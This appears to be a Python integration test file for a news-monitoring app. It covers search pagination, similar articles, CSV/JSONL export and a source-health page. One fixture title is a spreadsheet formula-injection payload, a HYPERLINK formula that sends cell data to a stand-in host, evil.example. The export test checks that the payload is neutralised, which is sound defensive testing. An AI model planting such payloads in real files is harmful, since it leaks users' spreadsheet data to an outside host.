"""Deep pagination, one article, more like this, streamed export and the
source-health page, on the served app and the real engine."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
import redis

from coverwatch.models import Article
from coverwatch.settings import Settings
from crawlers.health import SourceStates
from crawlers.sources import parse_sources
from search.documents import bulk_index
from search.engine import SearchEngine
from search.indexes import ARTICLES
from tests.conftest import SOURCES_FILE

pytestmark = pytest.mark.integration

START = datetime(2026, 9, 1, 8, 0, tzinfo=UTC)
HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Gravelmoss update")'


@pytest.fixture(scope="module")
def gravelmoss(settings: Settings, engine: SearchEngine) -> list[Article]:
    """23 originals about an invented implant, several published at the same
    second (a page boundary must not fall between look-alike sort keys), one
    copy, and two articles that are about something else."""
    articles = [
        Article(url=f"https://gm{n % 4}.example.org/gravelmoss-{n}", source=f"gm-outlet-{n % 4}",
                title=HOSTILE_TITLE if n == 7 else f"Gravelmoss implant report {n}",
                body=f"The Gravelmoss implant was found on shipping company servers, report {n}. " * 5,
                published_at=START + timedelta(hours=n // 3), victim_countries=["NO" if n % 2 else "SE"])
        for n in range(23)]
    copy = Article(url="https://gm-copies.example.org/gravelmoss-0", source="gm-copies", title=articles[0].title,
                   body=articles[0].body, published_at=START, duplicate_of=articles[0].id)
    others = [Article(url=f"https://gm-other.example.org/{n}", source="gm-other", title=f"Harbour fair {n}",
                      body="The harbour fair opened with music and boats. " * 5, published_at=START) for n in range(2)]
    bulk_index(engine, settings.index_name(ARTICLES), [a.to_document() for a in [*articles, copy, *others]],
               refresh=True)
    return articles


@pytest.mark.parametrize("sort", ["newest", "relevance"])
def test_cursor_pages_reach_every_article_once(api: httpx.Client, gravelmoss: list[Article], sort: str) -> None:
    seen: list[str] = []
    cursor: str | None = None
    pages = 0
    while True:
        params: dict[str, Any] = {"q": "Gravelmoss", "size": 4, "sort": sort, **({"cursor": cursor} if cursor else {})}
        page = api.get("/api/v1/articles", params=params).json()
        assert page["total"] == 23
        seen += [hit["id"] for hit in page["hits"]]
        pages += 1
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert pages == 6 and len(seen) == 23 and set(seen) == {a.id for a in gravelmoss}
    if sort == "newest":
        published = {a.id: a.published_at.isoformat() for a in gravelmoss if a.published_at}
        times = [published[id_] for id_ in seen]
        assert times == sorted(times, reverse=True)


def test_cursor_pages_keep_filters_and_refuse_bad_cursors(api: httpx.Client, gravelmoss: list[Article]) -> None:
    first = api.get("/api/v1/articles", params={"q": "Gravelmoss", "victim": "Norway", "size": 5,
                                                "sort": "newest"}).json()
    assert first["total"] == 11 and len(first["hits"]) == 5
    rest = api.get("/api/v1/articles", params={"q": "Gravelmoss", "victim": "NO", "size": 20, "sort": "newest",
                                               "cursor": first["next_cursor"]}).json()
    assert len(rest["hits"]) == 6 and rest["next_cursor"] is None
    other_order = api.get("/api/v1/articles", params={"q": "Gravelmoss", "cursor": first["next_cursor"]})
    assert other_order.status_code == 400 and "sort='newest'" in other_order.json()["detail"]
    assert api.get("/api/v1/articles", params={"q": "Gravelmoss", "cursor": "garbage"}).status_code == 400
    assert api.get("/api/v1/articles", params={"q": "title:(unclosed"}).status_code == 400


def test_one_article_and_the_articles_like_it(api: httpx.Client, gravelmoss: list[Article]) -> None:
    article = api.get(f"/api/v1/articles/{gravelmoss[3].id}").json()
    assert article["title"] == "Gravelmoss implant report 3" and "Gravelmoss" in article["body"]
    assert "cluster_terms" not in article
    assert api.get("/api/v1/articles/no-such-article").status_code == 404
    similar = api.get(f"/api/v1/articles/{gravelmoss[3].id}/similar", params={"size": 30}).json()
    ids = [hit["id"] for hit in similar]
    assert gravelmoss[3].id not in ids
    # The other reports come first; other tests' articles share this index and may
    # follow them, but no copy and nothing about the harbour fair ever does.
    others = {a.id for a in gravelmoss} - {gravelmoss[3].id}
    assert set(ids[:len(others)]) == others
    assert not {hit["source"] for hit in similar} & {"gm-copies", "gm-other"}
    assert api.get("/api/v1/articles/no-such-article/similar").status_code == 404


def _lines(response: httpx.Response) -> Iterator[str]:
    yield from response.iter_lines()


def test_export_streams_every_match_as_csv_and_json_lines(api: httpx.Client, gravelmoss: list[Article]) -> None:
    with api.stream("GET", "/api/v1/export", params={"q": "Gravelmoss", "format": "csv"}) as response:
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        assert response.headers["content-disposition"].startswith("attachment; filename=")
        assert "content-length" not in response.headers  # streamed, not built whole
        text = response.read().decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 23 and {row["id"] for row in rows} == {a.id for a in gravelmoss}
    assert any(row["title"] == "'" + HOSTILE_TITLE for row in rows)  # a spreadsheet shows it, never runs it
    with api.stream("GET", "/api/v1/export", params={"q": "Gravelmoss", "format": "jsonl", "limit": 9,
                                                     "duplicates": "true"}) as response:
        records = [json.loads(line) for line in _lines(response) if line]
    assert len(records) == 9 and all("title" in record for record in records)
    assert api.get("/api/v1/export", params={"q": "title:(unclosed"}).status_code == 400
    assert api.get("/api/v1/export", params={"format": "xlsx"}).status_code == 422


def test_source_health_page_puts_troubled_sources_first(api: httpx.Client, settings: Settings,
                                                        redis_client: redis.Redis) -> None:
    text = ("sources:\n"
            "  - {name: healthy-wire, kind: feed, urls: 'https://healthy.example.org/rss', country: GB}\n"
            "  - {name: broken-feed, kind: feed, urls: 'https://broken.example.org/rss', language: de}\n")
    previous = Path(SOURCES_FILE).read_text()
    Path(SOURCES_FILE).write_text(text)
    try:
        healthy, broken = parse_sources(text, "test")
        states = SourceStates(redis_client, settings)
        states.record(healthy, {"entries": 12, "articles": 3})
        states.record(broken, {"errors": {"http_500": 1}})
        page = api.get("/sources")
        assert page.status_code == 200
        assert page.text.index("broken-feed") < page.text.index("healthy-wire")
        assert "http_500" in page.text and "1 failing" in page.text and "1 ok" in page.text
        failing_only = api.get("/sources", params={"status": "failing"}).text
        assert "broken-feed" in failing_only and "healthy-wire" not in failing_only
    finally:
        Path(SOURCES_FILE).write_text(previous)
